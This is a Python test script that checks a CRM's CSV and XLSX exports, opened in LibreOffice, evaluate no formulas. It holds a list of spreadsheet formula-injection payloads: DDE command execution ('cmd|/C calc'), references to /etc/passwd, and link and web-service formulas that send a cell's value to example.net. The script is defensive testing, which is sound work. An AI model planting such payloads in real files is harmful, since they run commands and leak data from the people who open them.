"""bench/calc: LibreOffice opens our CSV and XLSX of people whose every field is a formula, and evaluates no cell.

A CSV file is opened as LibreOffice does by itself, and again told to evaluate formulas. A file with bare formulas is opened first, so that
a check that sees nothing fails.
"""

import argparse
import csv
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from xml.etree import ElementTree

from crm import contacts, db, members
from crm.exporting import files, people
from crm.migrations import migrate
from crm.models import Member
from crm.selection import Selection
from crm.settings import Settings

_COMMANDS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "'=1+1", '"=1+1', '="0123"',
    "=HYPERLINK(\"http://example.net/?\"&A1;\"look\")", "=HYPERLINK(\"http://example.net\",\"look\")", "=WEBSERVICE(\"http://example.net\")",
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "='file:///etc/passwd'#$passwd.A1", "=IMPORTXML(\"http://example.net\";\"//a\")", "{=1+1}", "=1+1;=2+2", 'a,=1+1', 'a"\n=1+1', "=" * 90,
)  # fmt: skip
_FIELDS = "first_name last_name job_title source street city region postal_code website".split()
_TABLE, _OFFICE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0", "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
_AS_IS, _EVALUATING = "44,34,76,1", "44,34,76,1,,0,false,true,false,false,false,0,true"
"""How LibreOffice reads a CSV file: comma, quotation mark, UTF-8, from the first line; and with formulas evaluated."""


def main() -> int:
    """Open every file; print how many cells each has and how many are formulas, and fail where one is."""
    parser = argparse.ArgumentParser("bench/calc")
    parser.add_argument("--people", type=int, default=1_000)
    count = parser.parse_args().people
    with tempfile.TemporaryDirectory(prefix="kith-calc-") as name:
        folder = Path(name)
        bare, written = _bare(folder), _exported(folder, count)
        seen = len(list(_formulas(_opened(bare, _EVALUATING))))
        print(f"{'bare formulas, evaluated':32} {seen:6} formulas: the check sees them" if seen else "The check sees no formula at all.")
        return _check(written, count) if seen else 1


def _check(written: Sequence[Path], count: int) -> int:
    wrong = 0
    for file in written:
        for words, how in (("", _AS_IS), (", evaluated", _EVALUATING)) if file.suffix == ".csv" else (("", ""),):
            sheet = _opened(file, how)
            found, rows = list(_formulas(sheet)), sum(1 for _ in sheet.iter(f"{{{_TABLE}}}table-row"))
            print(f"{file.name + words:32} {len(found):6} formulas in {rows:,} rows", *found[:5])
            wrong += len(found) + (rows < count)
    return 1 if wrong else 0


def _bare(folder: Path) -> Path:
    path = folder / "bare.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([text] for text in _COMMANDS)
    return path


def _exported(folder: Path, count: int) -> list[Path]:
    """An office of hostile people, written as both formats."""
    db.connect(Settings.from_env({**os.environ, "KITH_DATA": str(folder), "DATABASE_URL": ""}), patient=True)
    with db.connection():
        migrate()
        ada = members.create_owner("Ada", "ada@example.org", "seven green kettles")
        _crowd(count, ada)
        made = [folder / "people.csv", folder / "people.xlsx"]
        for path in made:
            files.write(path, Selection(), people.columns_of("all"), ada)
    return made


def _crowd(count: int, by: Member) -> None:
    for number in range(count):
        values = {key: _COMMANDS[(number + place) % len(_COMMANDS)] for place, key in enumerate(_FIELDS)}
        contacts.create(contacts.Form({**values, "business": _COMMANDS[-number % len(_COMMANDS)]}), by=by, region="US")


def _opened(path: Path, how: str) -> ElementTree.Element:
    """The file as LibreOffice has it, as flat OpenDocument."""
    out = path.parent / "opened"
    options = [f"--infilter=Text - txt - csv (StarCalc):{how}"] if how else []
    command = [
        "soffice",
        f"-env:UserInstallation=file://{path.parent}/profile",
        "--headless",
        *options,
        "--convert-to",
        "fods",
        "--outdir",
        str(out),
        str(path),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    made = out / f"{path.stem}.fods"
    found = ElementTree.parse(made).getroot()
    made.unlink()
    return found


def _formulas(sheet: ElementTree.Element) -> Iterator[str]:
    """Every formula, link to other files and cell that is an error."""
    for node in sheet.iter():
        formula = node.get(f"{{{_TABLE}}}formula")
        if formula is not None or node.tag in (f"{{{_TABLE}}}dde-link", f"{{{_TABLE}}}table-source", f"{{{_OFFICE}}}dde-source"):
            yield formula or node.tag


if __name__ == "__main__":
    sys.exit(main())
